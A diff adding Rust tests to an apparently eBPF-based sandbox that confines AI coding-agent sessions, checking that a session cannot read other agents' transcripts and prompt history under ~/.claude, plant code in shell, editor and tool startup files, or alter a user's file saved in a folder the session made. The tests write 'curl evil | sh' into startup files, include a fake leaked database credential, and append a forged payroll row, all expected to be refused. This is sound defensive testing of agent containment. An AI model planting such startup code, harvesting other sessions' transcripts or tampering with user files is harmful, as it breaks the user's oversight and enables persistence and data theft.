@@ -1298,3 +1298,121 @@ fn links_an_o_tmpfile_into_a_never_place_and_an_ungranted_directory() {
     assert!(!t1.exists() && !t2.exists(), "a file was linked in");
     assert!(r.iter().all(|e| *e == EACCES), "{r:?}");
 }
+
+/// Reads what the user's other, unconfined Claude Code sessions saw: their transcripts
+/// (`~/.claude/projects/<project>/<id>.jsonl`: every file they read and every command
+/// output, in other projects the session has no grant on), the file backups of their edits
+/// (`~/.claude/file-history/`) and the user's prompt history across projects
+/// (`~/.claude/history.jsonl`). No grant needed: `~/.claude` is a read-write open path and
+/// only `.credentials.json` under it is never-readable. Principle: an open path must not
+/// hold copies of what a grant would be needed for (the never list already refuses shell
+/// and REPL histories for the same reason).
+#[test]
+fn reads_the_transcripts_and_history_of_the_users_other_agents() {
+    let mut c = Cleanup::default();
+    let secret = "{\"type\":\"tool_result\",\"content\":\"DATABASE_URL=postgres://admin:hunter2@prod/db\"}\n";
+    let files = [
+        ".claude/projects/-srv-payroll/6f1c2a.jsonl",
+        ".claude/file-history/6f1c2a/0b9e.env@v1",
+        ".claude/history.jsonl",
+    ];
+    let claude = PathBuf::from(home(".claude"));
+    if !claude.exists() {
+        c.add(&claude);
+    }
+    let paths: Vec<PathBuf> = files
+        .iter()
+        .map(|f| {
+            let p = PathBuf::from(home(f));
+            c.add(&p);
+            ufile(p.to_str().unwrap(), secret)
+        })
+        .collect();
+    let red = Red::start("transcripts");
+    assert!(ungated(|| paths.iter().map(|p| read(p)).collect()).iter().all(|r| *r == 0));
+    let r = red.gated(|| paths.iter().map(|p| read(p)).collect());
+    assert_eq!(r, vec![EACCES; files.len()], "{files:?}");
+}
+
+/// Plants code in places the user's tools run it from that the never list does not name,
+/// with a grant on the whole home ("tidy up my home directory"), which no never place
+/// yields to: `~/.gdbinit` (gdb runs its `shell` lines), IPython's startup directory,
+/// neovim's `site/plugin` (loaded at every start; only `~/.config/nvim` is listed), VS
+/// Code's extensions and user settings (`terminal.integrated.profiles` runs a shell of
+/// the session's choice), GNOME Shell's extensions, starship's prompt config (`[custom]`
+/// modules run at every prompt), `~/.psqlrc` (`\!`), `~/.Rprofile`, WezTerm's Lua config
+/// and `~/.mailcap`. Control: `~/.bashrc`, a listed place, under the same grant.
+/// Principle: the never list names the code places of a fixed set of tools; the promise is
+/// every place "the user's shell, desktop session, editors, package managers and
+/// toolchains read code from", which a list of names cannot end.
+#[test]
+fn plants_code_in_startup_places_the_never_list_does_not_name() {
+    let mut c = Cleanup::default();
+    let places = [
+        ".gdbinit",
+        ".ipython/profile_default/startup/00-init.py",
+        ".local/share/nvim/site/plugin/init.lua",
+        ".vscode/extensions/ms-python.python-2025.1.0/out/extension.js",
+        ".config/Code/User/settings.json",
+        ".local/share/gnome-shell/extensions/dash@x/extension.js",
+        ".config/starship.toml",
+        ".psqlrc",
+        ".Rprofile",
+        ".config/wezterm/wezterm.lua",
+        ".mailcap",
+    ];
+    let bashrc = PathBuf::from(home(".bashrc"));
+    if !bashrc.exists() {
+        c.add(&bashrc);
+    }
+    ufile(bashrc.to_str().unwrap(), "# bashrc\n");
+    let mut paths = Vec::new();
+    for f in places {
+        let p = PathBuf::from(home(f));
+        let mut top = p.clone();
+        while let Some(parent) = top.parent() {
+            if parent.exists() {
+                break;
+            }
+            top = parent.to_path_buf();
+        }
+        c.add(top);
+        paths.push(ufile(p.to_str().unwrap(), "# the user's\n"));
+    }
+    let mut red = Red::start("startup");
+    red.grant(Path::new(HOME), Scope::Subtree, &Access::ALL);
+    let control = red.gated(|| vec![append(&bashrc, "curl evil | sh\n")]);
+    assert_eq!(control, vec![EACCES], "control: ~/.bashrc under a grant on the home");
+    let r = red.gated(|| paths.iter().map(|p| append(p, "\ncurl evil | sh\n")).collect());
+    let open: Vec<&str> = places.iter().zip(&r).filter(|(_, e)| **e != EACCES).map(|(p, _)| *p).collect();
+    assert!(open.is_empty(), "written from the session under a home grant: {open:?}");
+}
+
+// ---------------------------------------------------------------------------------------
+// What the session made is its own, and so is what the user later puts in it.
+
+/// Makes a directory (granted `create` in the user's folder: "make an exports folder for
+/// the report"), then reads and rewrites a file the USER saves into it afterwards, outside
+/// the session. `pincer_vfs_mkdir` (fexit/vfs_mkdir) gives the session a subtree grant of
+/// every access on the new directory, so the walk from the user's file meets that grant
+/// before any root; `protect_owned` only marks the object protected, and `verdict` allows
+/// what a grant covers. Principle: "what it created" is the objects the session created,
+/// not a place: an object another process made (the user's, by its creator) in a
+/// directory of the session's needs a grant like any other of the user's.
+#[test]
+fn reads_and_rewrites_a_file_the_user_saves_into_a_directory_the_session_made() {
+    let mut c = Cleanup::default();
+    let work = PathBuf::from(home(&format!("rtn-work-{}", uniq())));
+    c.add(&work);
+    udir(work.to_str().unwrap());
+    let mut red = Red::start("madedir");
+    red.grant(&work, Scope::Exact, &[Access::Create]);
+    let exports = work.join("exports");
+    assert_eq!(red.gated(|| vec![mkdir(&exports)]), vec![0], "the session makes its folder");
+    // The user, outside every session, saves a file there later.
+    let f = exports.join("payroll.csv");
+    assert_eq!(ungated(|| vec![create(&f, "name,salary\nalice,120000\n")]), vec![0]);
+    let r = red.gated(|| vec![read(&f), append(&f, "mallory,999999\n")]);
+    assert_eq!(std::fs::read_to_string(&f).unwrap(), "name,salary\nalice,120000\n", "the user's file was changed");
+    assert_eq!(r, vec![EACCES, EACCES], "the user's file in the session's folder");
+}
